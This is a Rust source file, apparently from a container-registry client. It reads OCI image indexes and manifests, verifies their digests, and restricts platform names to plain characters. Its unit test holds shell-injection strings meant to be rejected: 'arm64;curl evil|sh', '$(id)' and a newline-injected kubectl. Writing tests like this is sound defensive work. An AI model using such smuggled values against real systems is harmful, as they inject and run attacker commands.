//! A resolved manifest → the platforms that it is for: one GET of the index, or of the manifest and its configuration.
//!
//! Bytes are checked against the digest that names them, so what is read here is true for everybody who knows the digest.

use std::fmt;
use std::marker::PhantomData;

use serde::Deserialize;
use serde::de::value::MapAccessDeserializer;
use serde::de::{Deserializer, Error as _, MapAccess, SeqAccess, Visitor};

use crate::nodes::platform::{Content, Platform, ReadContent};
use crate::reference::Digest;
use crate::registry::failure::Failure;
use crate::registry::host_port;
use crate::registry::manifest::{self, Kind, Manifest, Nature};
use crate::registry::transport::Method;
use crate::registry::{Ask, Registry};

/// Entries of an index; more than any builder makes, and little enough to hold.
const MAX_ENTRIES: usize = 1_000;

/// Bytes of an operating system's or an architecture's name. What it is made of is printed in a line to type.
const MAX_WORD: usize = 64;

/// What a manifest or an index says of platforms (opencontainers/image-spec `image-index.md`, `manifest.md`).
#[derive(Default, Deserialize)]
#[serde(default)]
struct Body {
    manifests: Option<Entries>,
    config: Option<Object<Descriptor>>,
}

/// What is a JSON object. A derived reader takes a list of the values in its place, which no runtime does.
struct Object<T>(T);

/// The platforms of an index's entries, read one by one: an index of too many is an error before it is a list.
struct Entries(Vec<Option<Platform>>);

#[derive(Default, Deserialize)]
#[serde(default)]
struct Entry {
    platform: Option<Object<PlatformText>>,
}

#[derive(Default, Deserialize)]
#[serde(default)]
struct Descriptor {
    digest: Option<String>,
}

/// `platform` of a descriptor, and the same fields of an image configuration.
#[derive(Default, Deserialize)]
#[serde(default)]
struct PlatformText {
    os: Option<String>,
    architecture: Option<String>,
    variant: Option<String>,
}

// === impl Registry ===

impl Registry {
    /// The platforms and the length of `manifest`, which `ask` names by its digest, and which was just resolved with the same credential.
    ///
    /// # Errors
    /// Whatever the registry answered instead; the image itself is there.
    pub async fn content(&self, ask: &Ask, manifest: &Manifest) -> Result<ReadContent, Failure> {
        let (answer, _) = self.converse(ask, Method::Get).await?;
        let content = self.platforms(ask, manifest, &answer.body).await?;
        Ok(ReadContent { content, length: answer.body.len() as u64 })
    }

    async fn platforms(&self, ask: &Ask, manifest: &Manifest, bytes: &[u8]) -> Result<Content, Failure> {
        let Object(body): Object<Body> = checked(bytes, &manifest.digest, ask)?;
        match (manifest.kind, body) {
            (Kind::Index, Body { manifests: Some(Entries(entries)), .. }) => Ok(Content::Index(entries)),
            // The media type is the registry's word only; the bytes are somebody else's image, perhaps.
            (Kind::Index, Body { manifests: None, .. }) => {
                Err(Failure::nonsense(format!("{} sends an index without manifests", ask.endpoint.host), None))
            }
            (Kind::Image, _) if let Nature::Other(what) = manifest::nature_of_body(Kind::Image, bytes) => {
                Ok(Content::Other(what))
            }
            (Kind::Image, Body { config, .. }) => {
                let digest = config.and_then(|Object(config)| config.digest).and_then(|digest| digest.parse().ok());
                let Some(digest) = digest else {
                    return Err(Failure::nonsense(
                        format!("{} sends a manifest without a config", ask.endpoint.host),
                        None,
                    ));
                };
                let body = self.blob(ask, &digest, manifest::MAX_SIZE).await?;
                let Object(platform): Object<PlatformText> = checked(&body, &digest, ask)?;
                let refuse = |why| Failure::nonsense(format!("{} sends {why}", ask.endpoint.host), None);
                Platform::try_from(platform).map(Content::Single).map_err(refuse)
            }
        }
    }

    /// A small blob, with the authorization that the manifest's GET has just used.
    pub(super) async fn blob(&self, ask: &Ask, digest: &Digest, max_body: usize) -> Result<Vec<u8>, Failure> {
        let presented = self.session.known(self.transport.as_ref(), ask).await?;
        let refuse = |why: String| Failure::nonsense(format!("{} {why}", ask.endpoint.host), None);
        let url = host_port::read_url(&ask.endpoint.blob_url(&ask.reference, digest))
            .map_err(|_| refuse("is no host that a URL can name".to_owned()))?;
        let request = ask.request(Method::Get, url, &presented, max_body);
        let answer = self.transport.send(request).await;
        self.metrics.registry_request(&ask.endpoint.host, answer.as_ref().ok().map(|answer| answer.status));
        match answer {
            Ok(answer) if answer.status == 200 => {
                presented.accepted().await;
                Ok(answer.body)
            }
            Ok(answer) => Err(refuse(format!("answers a request for an image configuration with {}", answer.status))),
            Err(error) => Err(Failure::transport(error)),
        }
    }
}

pub(super) fn checked<'b, T: Deserialize<'b>>(body: &'b [u8], digest: &Digest, ask: &Ask) -> Result<T, Failure> {
    let refuse = |why: &str| Failure::nonsense(format!("{} {why} {digest}", ask.endpoint.host), None);
    if manifest::digest_of(body, digest.algorithm()).as_ref() != Some(digest) {
        return Err(refuse("sends other bytes than"));
    }
    serde_json::from_slice(body).map_err(|_| refuse("sends something unreadable as"))
}

// === impl Object ===

impl<'de, T: Deserialize<'de>> Deserialize<'de> for Object<T> {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        struct ObjectVisitor<T>(PhantomData<T>);

        impl<'de, T: Deserialize<'de>> Visitor<'de> for ObjectVisitor<T> {
            type Value = Object<T>;

            fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str("an object")
            }

            fn visit_map<A: MapAccess<'de>>(self, map: A) -> Result<Object<T>, A::Error> {
                T::deserialize(MapAccessDeserializer::new(map)).map(Object)
            }
        }

        deserializer.deserialize_map(ObjectVisitor(PhantomData))
    }
}

// === impl Entries ===

impl<'de> Deserialize<'de> for Entries {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        struct EntriesVisitor;

        impl<'de> Visitor<'de> for EntriesVisitor {
            type Value = Entries;

            fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                write!(f, "at most {MAX_ENTRIES} entries")
            }

            fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<Entries, A::Error> {
                let mut entries = Vec::new();
                while let Some(Object(Entry { platform })) = seq.next_element()? {
                    if entries.len() == MAX_ENTRIES {
                        return Err(A::Error::invalid_length(MAX_ENTRIES + 1, &self));
                    }
                    let platform = platform.map(|Object(platform)| Platform::try_from(platform));
                    entries.push(platform.transpose().map_err(A::Error::custom)?);
                }
                Ok(Entries(entries))
            }
        }

        deserializer.deserialize_seq(EntriesVisitor)
    }
}

// === impl PlatformText ===

impl TryFrom<PlatformText> for Platform {
    type Error = &'static str;

    fn try_from(text: PlatformText) -> Result<Self, Self::Error> {
        let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"/._-".contains(&byte);
        let word = |word: Option<String>| match word.unwrap_or_default() {
            word if word.len() <= MAX_WORD && word.bytes().all(plain) => Ok(word),
            _ => Err("a platform that is no word"),
        };
        Ok(Self { os: word(text.os)?, architecture: word(text.architecture)?, variant: word(text.variant)? })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_platform_is_made_of_words_that_a_shell_takes_as_such() {
        for (architecture, expected) in [
            ("arm64", true),
            ("arm/v7", true),
            ("x86_64-v2.1", true),
            ("", true),
            ("arm64;curl evil|sh", false),
            ("$(id)", false),
            ("arm64\n  kubectl", false),
            ("ärm", false),
        ] {
            let text = || Some(architecture.to_owned());
            let of = |os, architecture, variant| Platform::try_from(PlatformText { os, architecture, variant }).is_ok();
            assert_eq!(of(None, text(), None), expected, "{architecture}");
            assert_eq!(of(text(), None, None), expected, "{architecture}");
            assert_eq!(of(None, None, text()), expected, "{architecture}");
        }
    }
}
